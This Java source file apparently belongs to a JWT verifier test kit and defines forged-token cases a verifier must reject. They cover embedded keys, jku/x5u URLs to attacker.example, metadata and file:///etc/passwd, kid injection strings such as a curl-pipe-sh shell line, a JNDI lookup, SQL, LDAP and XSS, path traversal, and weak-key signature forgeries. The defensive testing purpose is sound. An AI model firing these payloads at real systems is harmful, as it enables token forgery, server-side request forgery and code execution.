package io.bailiwick.testkit.corpus;

import static io.bailiwick.testkit.corpus.Cases.BAD_SIGNATURE;
import static io.bailiwick.testkit.corpus.Cases.FORBIDDEN_HEADER;
import static io.bailiwick.testkit.corpus.Cases.MALFORMED;
import static io.bailiwick.testkit.corpus.Cases.UNKNOWN_KEY;

import io.bailiwick.testkit.AttackCase.Level;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Whose key it is: brought along, pointed to, or named so that something else is found. */
final class KeyAttacks {
  private KeyAttacks() {}

  static void add(Cases cases) {
    brought(cases.family("key-brought-along", Level.JWT, "CVE-2018-0114; RFC 8725, 3.10"));
    pointed(cases.family("key-pointed-to", Level.JWT, "RFC 8725, 3.10"));
    names(cases.family("key-id", Level.JWT, "RFC 8725, 3.10"));
    published(cases.family("key-set", Level.JWT, "RFC 8725, 3.4 and 3.5"));
  }

  private static void brought(Cases.Family brought) {
    String jwk = CorpusKey.MALLORY.jwk();
    Signer mallory = CorpusKey.MALLORY.signer();
    Draft draft = Draft.good().header("jwk", jwk);
    brought.refuse(
        FORBIDDEN_HEADER,
        "jwk",
        "signed by the key in its own header, under a known id",
        draft.sign(mallory));
    brought.refuse(
        FORBIDDEN_HEADER,
        "jwk-own-kid",
        "the same under the id of that key",
        draft.kid("mallory").sign(mallory));
    brought.refuse(
        FORBIDDEN_HEADER,
        "jwk-no-kid",
        "the same without an id",
        draft.withoutHeader("kid").sign(mallory));
    brought.refuse(
        FORBIDDEN_HEADER,
        "jwk-ec",
        "an EC key in the header",
        Draft.good()
            .alg("ES256")
            .kid("es256")
            .header("jwk", CorpusKey.ec("m", "ES256", CorpusKey.EC_MALLORY).jwk())
            .sign(Signer.ecdsa(CorpusKey.EC_MALLORY, "SHA-256")));
    brought.refuse(
        FORBIDDEN_HEADER,
        "jwk-ed",
        "an Ed25519 key in the header",
        Draft.good()
            .alg("EdDSA")
            .kid("eddsa")
            .header("jwk", CorpusKey.ed("m", CorpusKey.ED_MALLORY).jwk())
            .sign(CorpusKey.ED_MALLORY::sign));
    brought.refuse(
        FORBIDDEN_HEADER,
        "jwk-oct",
        "a symmetric key in the header",
        Draft.good()
            .alg("HS256")
            .header("jwk", "{\"kty\":\"oct\",\"k\":\"c2VjcmV0\"}")
            .sign(Signer.hs256("secret")));
    String certificate = selfSigned(CorpusKey.RSA_MALLORY);
    brought.refuse(
        FORBIDDEN_HEADER,
        "x5c",
        "a self-signed certificate in the header",
        Draft.good().header("x5c", Json.array(certificate)).sign(mallory));
    brought.refuse(
        FORBIDDEN_HEADER,
        "x5c-no-kid",
        "the same without an id",
        Draft.good().withoutHeader("kid").header("x5c", Json.array(certificate)).sign(mallory));
    brought.refuse(
        FORBIDDEN_HEADER,
        "x5c-and-jwk",
        "certificate and key",
        draft.header("x5c", Json.array(certificate)).sign(mallory));
    Cases.Family strict = brought.level(Level.STRICT).origin("RFC 8725, 3.10");
    strict.refuse(
        FORBIDDEN_HEADER,
        "jwk-well-signed",
        "a key in the header, signed by the trusted one all the same",
        draft.sign());
    strict.refuse(
        FORBIDDEN_HEADER,
        "jwk-trusted",
        "the trusted key itself in the header",
        Draft.good().header("jwk", CorpusKey.RS256.jwk()).sign());
    strict.refuse(
        FORBIDDEN_HEADER,
        "x5c-well-signed",
        "certificates in the header, signed by the trusted key",
        Draft.good().header("x5c", Json.array(certificate)).sign());
    strict.refuse(
        FORBIDDEN_HEADER,
        "jwk-null",
        "jwk is JSON's null",
        Draft.good().header("jwk", "null").sign());
    strict.refuse(
        FORBIDDEN_HEADER,
        "x5c-empty",
        "x5c is an empty array",
        Draft.good().header("x5c", "[]").sign());
    brought
        .origin("RFC 7515, 4.1.8")
        .refuse(
            BAD_SIGNATURE,
            "x5t",
            "only a thumbprint, which is read past; signed by another key",
            Draft.good()
                .header("x5t#S256", Json.quote(Draft.url(Derived.bytes("x5t", 32))))
                .sign(mallory));
  }

  private static void pointed(Cases.Family pointed) {
    Map<String, String> urls = new LinkedHashMap<>();
    urls.put("attacker", "https://attacker.example/jwks.json");
    urls.put("userinfo", "https://issuer.example@attacker.example/jwks.json");
    urls.put("subdomain", "https://issuer.example.attacker.example/jwks.json");
    urls.put(
        "redirect",
        Draft.ISSUER + "/protocol/openid-connect/logout?redirect_uri=https://attacker.example/");
    urls.put("fragment", "https://attacker.example/jwks.json#" + Draft.ISSUER);
    urls.put("metadata-service", "http://169.254.169.254/latest/meta-data/");
    urls.put("file", "file:///etc/passwd");
    urls.put("loopback", "http://127.0.0.1:9/");
    urls.put("data", "data:application/json,{}");
    urls.put("jndi", "${jndi:ldap://attacker.example/a}");
    urls.forEach(
        (name, url) -> {
          pointed.refuse(
              FORBIDDEN_HEADER,
              "jku-" + name,
              "jku to " + name + ", signed by the attacker's key",
              Draft.good()
                  .kid("mallory")
                  .header("jku", Json.quote(url))
                  .sign(CorpusKey.MALLORY.signer()));
        });
    for (String name : List.of("attacker", "userinfo", "file")) {
      pointed.refuse(
          FORBIDDEN_HEADER,
          "x5u-" + name,
          "x5u to " + name + ", signed by the attacker's key",
          Draft.good()
              .header("x5u", Json.quote(String.valueOf(urls.get(name))))
              .sign(CorpusKey.MALLORY.signer()));
    }
    Cases.Family strict = pointed.level(Level.STRICT);
    strict.refuse(
        FORBIDDEN_HEADER,
        "jku-well-signed",
        "jku to an attacker, signed by the trusted key",
        Draft.good().header("jku", "\"https://attacker.example/jwks.json\"").sign());
    strict.refuse(
        FORBIDDEN_HEADER,
        "jku-own",
        "jku to the issuer's own keys, signed by the trusted key",
        Draft.good()
            .header("jku", Json.quote(Draft.ISSUER + "/protocol/openid-connect/certs"))
            .sign());
    strict.refuse(
        FORBIDDEN_HEADER,
        "x5u-well-signed",
        "x5u, signed by the trusted key",
        Draft.good().header("x5u", "\"https://attacker.example/c.pem\"").sign());
  }

  private static void names(Cases.Family names) {
    Map<String, String> unknown = new LinkedHashMap<>();
    unknown.put("unknown", "no-such-key");
    unknown.put("case", "RS256");
    unknown.put("leading-space", " rs256");
    unknown.put("trailing-space", "rs256 ");
    unknown.put("line-feed", "rs256\n");
    unknown.put("null-byte", "rs256\0");
    unknown.put("null-byte-path", "rs256\0/../mallory");
    unknown.put("full-width", "rs\uff12\uff15\uff16");
    unknown.put("right-to-left", "\u202ers256");
    unknown.put("star", "*");
    unknown.put("percent", "%");
    unknown.put("prototype", "__proto__");
    unknown.put("template", "${jndi:ldap://attacker.example/a}");
    unknown.put("format", "{0} %s %n");
    unknown.put("url", "https://attacker.example/jwks.json");
    unknown.put("shell", "rs256; curl attacker.example | sh");
    unknown.put("ldap", "*)(uid=*))(|(uid=*");
    unknown.put("regex", "rs.*");
    unknown.put("mark-up", "<script>alert(1)</script>");
    unknown.put("log-line", "x\r\n2026-11-24 INFO admin logged in");
    unknown.forEach(
        (name, kid) ->
            names.refuse(
                UNKNOWN_KEY,
                "mallory-" + name,
                "signed by an attacker's key under the id " + Json.quote(kid),
                Draft.good().kid(kid).sign(CorpusKey.MALLORY.signer())));
    names.refuse(
        UNKNOWN_KEY,
        "path-traversal",
        "HS256 with the empty secret of /dev/null as a key file",
        Draft.good().alg("HS256").kid("../../../../../../dev/null").sign(Signer.hs256("")));
    names.refuse(
        UNKNOWN_KEY,
        "path-traversal-known-file",
        "HS256 with a file's well-known content",
        Draft.good()
            .alg("HS256")
            .kid("/proc/sys/kernel/randomize_va_space")
            .sign(Signer.hs256("2")));
    names.refuse(
        UNKNOWN_KEY,
        "path-traversal-encoded",
        "the same, percent-encoded",
        Draft.good().alg("HS256").kid("%2e%2e%2f%2e%2e%2fdev%2fnull").sign(Signer.hs256("")));
    names
        .origin("CVE-2021-41106")
        .refuse(
            UNKNOWN_KEY,
            "file-uri",
            "HS256 with the file's name as its secret",
            Draft.good()
                .alg("HS256")
                .kid("file:///keys/rs256.pem")
                .sign(Signer.hs256("file:///keys/rs256.pem")));
    names.refuse(
        UNKNOWN_KEY,
        "sql",
        "HS256 with the secret that an injected query answers",
        Draft.good().alg("HS256").kid("x' UNION SELECT 'key' -- ").sign(Signer.hs256("key")));
    names.refuse(
        BAD_SIGNATURE,
        "mallory-as-rs256",
        "an attacker's signature under a known id",
        Draft.good().sign(CorpusKey.MALLORY.signer()));
    names.refuse(
        BAD_SIGNATURE,
        "mallory-as-es256",
        "an attacker's ECDSA signature under a known id",
        Draft.good().of(CorpusKey.ES256).sign(Signer.ecdsa(CorpusKey.EC_MALLORY, "SHA-256")));
    names.refuse(
        BAD_SIGNATURE,
        "mallory-as-eddsa",
        "an attacker's Ed25519 signature under a known id",
        Draft.good().of(CorpusKey.EDDSA).sign(CorpusKey.ED_MALLORY::sign));
    names.refuse(
        BAD_SIGNATURE,
        "mallory-no-kid",
        "an attacker's signature, no id, one key that fits",
        Draft.good().withoutHeader("kid").sign(CorpusKey.MALLORY.signer()));
    names
        .keys("twins")
        .refuse(
            BAD_SIGNATURE,
            "other-key",
            "signed by another trusted key than the one it names",
            Draft.good().sign(KeySets.SECOND.signer()));
    Cases.Family strict = names.level(Level.STRICT).origin("RFC 7515, 4.1.4");
    strict
        .keys("twins")
        .refuse(
            UNKNOWN_KEY,
            "absent-of-two",
            "no id where two keys would fit",
            Draft.good().withoutHeader("kid").sign());
    strict.refuse(
        UNKNOWN_KEY,
        "well-signed-unknown",
        "an unknown id, signed by the trusted key",
        Draft.good().kid("no-such-key").sign());
    strict.refuse(
        UNKNOWN_KEY,
        "well-signed-case",
        "the id in upper case, signed by the trusted key",
        Draft.good().kid("RS256").sign());
    strict.refuse(MALFORMED, "empty", "an empty id", Draft.good().kid("").sign());
    strict.refuse(
        MALFORMED, "number", "an id that is a number", Draft.good().header("kid", "256").sign());
    strict.refuse(
        MALFORMED, "null", "an id that is null", Draft.good().header("kid", "null").sign());
    strict.refuse(
        MALFORMED, "array", "an id in an array", Draft.good().header("kid", "[\"rs256\"]").sign());
    strict.refuse(
        MALFORMED,
        "object",
        "an id that is an object",
        Draft.good().header("kid", "{\"$ne\":\"\"}").sign());
    strict.refuse(
        MALFORMED, "long", "an id of 257 characters", Draft.good().kid("k".repeat(257)).sign());
    strict.refuse(
        MALFORMED, "huge", "an id of 6000 characters", Draft.good().kid("k".repeat(6000)).sign());
  }

  private static void published(Cases.Family published) {
    published
        .keys("short-rsa")
        .origin("RFC 7518, 3.3; RFC 8725, 3.5")
        .level(Level.STRICT)
        .refuse(
            UNKNOWN_KEY,
            "rsa-1024",
            "well signed by an RSA key of 1024 bits that is published",
            Draft.good().signedBy(KeySets.SHORT));
    published
        .keys("exponent-1")
        .refuse(
            UNKNOWN_KEY,
            "rsa-exponent-1",
            "an RSA key whose exponent is 1: the padding is its own signature",
            Draft.good().kid("exponent-1").sign(message -> Pkcs1.encode("SHA-256", message, 256)));
    published
        .keys("for-encryption")
        .origin("RFC 7517, 4.2")
        .level(Level.STRICT)
        .refuse(
            UNKNOWN_KEY,
            "use-enc",
            "signed by a key that is published for encryption",
            Draft.good().signedBy(KeySets.FOR_ENCRYPTION));
    published
        .keys("leaked")
        .origin("RFC 7517, 9.2")
        .level(Level.STRICT)
        .refuse(
            UNKNOWN_KEY,
            "private-half-published",
            "signed by a key whose private half is published with it",
            Draft.good().signedBy(KeySets.LEAKED));
    published
        .keys("off-curve")
        .origin("RFC 8725, 3.4; CVE-2017-12974")
        .refuse(
            UNKNOWN_KEY,
            "off-curve",
            "by a key that is no point on its curve",
            Draft.good().alg("ES256").kid("off-curve").sign(CorpusKey.ES256.signer()));
    Cases.Family small = published.keys("small-order").origin("RFC 8032, 5.1.7 and 8");
    small.refuse(
        UNKNOWN_KEY,
        "ed25519-order-1",
        "Ed25519 by a key of order one: anybody can sign",
        Draft.good()
            .alg("EdDSA")
            .kid("order-1")
            .sign(message -> nobody(java.math.BigInteger.valueOf(7))));
    for (int number = 0; ; number++) {
      Draft draft = Draft.good().alg("EdDSA").kid("order-2").number(number);
      byte[] signature = nobody(java.math.BigInteger.valueOf(7));
      byte[] r = java.util.Arrays.copyOf(signature, 32);
      if (!EdPair.challenge(r, KeySets.ORDER_2, draft.message()).testBit(0)) {
        small.refuse(
            UNKNOWN_KEY,
            "ed25519-order-2",
            "Ed25519 by a key of order two: anybody can sign every second token",
            draft.with(signature));
        break;
      }
    }
    published
        .keys("x25519")
        .origin("RFC 8037, 3.2")
        .refuse(
            UNKNOWN_KEY,
            "x25519",
            "EdDSA with a key that is for agreement",
            Draft.good().alg("EdDSA").kid("x25519").sign(CorpusKey.ED::sign));
  }

  /** R is S times the base point: enough where the public key adds nothing. */
  private static byte[] nobody(java.math.BigInteger s) {
    return Derived.concat(EdPair.times(s).encoded(), EdPair.little(s));
  }

  /** A certificate (RFC 5280) of nobody by nobody, in base64. */
  private static String selfSigned(RsaPair pair) {
    byte[] name =
        Der.sequence(
            Der.of(
                0x31, Der.sequence(Der.hex("0603550403"), Der.of(0x0c, Draft.ascii("mallory")))));
    byte[] algorithm = Der.sequence(Der.hex("06092a864886f70d01010b"), Der.NULL);
    byte[] life =
        Der.sequence(
            Der.of(0x17, Draft.ascii("260101000000Z")), Der.of(0x17, Draft.ascii("360101000000Z")));
    byte[] body =
        Der.sequence(
            Der.integer(java.math.BigInteger.ONE),
            algorithm,
            name,
            life,
            name,
            Der.publicKeyInfo(pair));
    return java.util.Base64.getEncoder()
        .encodeToString(
            Der.sequence(body, algorithm, Der.bits(Signer.pkcs1(pair, "SHA-256").sign(body))));
  }
}
